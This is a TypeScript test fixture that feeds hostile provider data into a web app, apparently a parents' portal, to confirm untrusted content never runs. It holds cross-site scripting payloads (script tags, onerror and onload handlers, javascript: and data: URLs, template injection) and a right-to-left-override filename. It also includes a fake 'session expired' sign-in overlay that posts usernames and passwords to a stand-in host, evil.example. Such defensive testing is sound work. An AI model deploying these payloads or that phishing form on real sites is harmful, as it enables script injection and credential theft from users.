/** So a test can tell that provider text ever ran. */
export const HOSTILE_MARKER = '__providerScriptRan';

const run = `window.${HOSTILE_MARKER}=1`;
const scripts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload="${run}">`,
  `<a href="javascript:${run}">open</a>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `{{constructor.constructor('${run}')()}}`,
  `<style>body{display:none}</style>`,
  '\u202egnp.exe',
];

export const OVERLAY_TEXT = 'Your session expired. Please sign in again.';
const overlay = `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h2>${OVERLAY_TEXT}</h2><form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pass"><button>Sign in</button></form></div><p>Dear parents, <b>welcome</b>.</p><img src="https://evil.example/pixel.gif" alt="">`;

const oddDates: unknown[] = [1704067200, 1704067200000, '31/12/2024', '05/01/2024', '2024-13-45', '', null, 'soon'];
const oddLinks: unknown[] = [
  `javascript:${run}`,
  'www.youtube.com/watch?v=dQw4w9WgXcQ',
  `data:text/html,<script>${run}</script>`,
  '',
];
const junk: unknown[] = [null, 42, 'a string', [], {}, { title: null }];

const DATE_KEY = /date|dob|time/i;
const LINK_KEY = /url/i;

function hostileValue(key: string, value: unknown, i: number): unknown {
  if (typeof value === 'string') {
    if (key === 'message') return overlay;
    if (DATE_KEY.test(key)) return oddDates[i % oddDates.length];
    if (LINK_KEY.test(key)) return i % 5 === 4 ? value : oddLinks[i % oddLinks.length];
    if (key === '_id' || key === 'id' || key === 'category') return value;
    return `${value} ${scripts[i % scripts.length]}`;
  }
  if (Array.isArray(value))
    return i % 6 === 5 ? 'not-a-list' : [...value, `"><img src=x onerror="${run}">`, `javascript:${run}`];
  return value;
}

function hostileRecord(record: unknown, i: number): unknown {
  if (record === null || typeof record !== 'object' || Array.isArray(record)) return record;
  const out: Record<string, unknown> = { extra: { nested: [scripts[0]] } };
  for (const [key, value] of Object.entries(record)) out[key] = hostileValue(key, value, i);
  return out;
}

export function hostileList(list: readonly unknown[]): unknown[] {
  return [...list.map(hostileRecord), ...junk];
}

export const hostileItem = (item: unknown): unknown => hostileRecord(item, 1);

const malformedBodies: { type: string; body: string }[] = [
  { type: 'application/json', body: '{"status":"ok","result":{"rows":[{"title":"wrapped"}]}}' },
  {
    type: 'text/html',
    body: '<!doctype html><html><body><h1>Maintenance</h1><script>window.__providerScriptRan=1</script></body></html>',
  },
  { type: 'application/json', body: '[{"title":"cut off","date":"2024-' },
  { type: 'application/json', body: 'null' },
  { type: 'application/json', body: '[1,"two",null,[],true]' },
  { type: 'application/json', body: JSON.stringify('x'.repeat(100_000)) },
];

export const malformedBody = (index: number) => malformedBodies[index % malformedBodies.length]!;
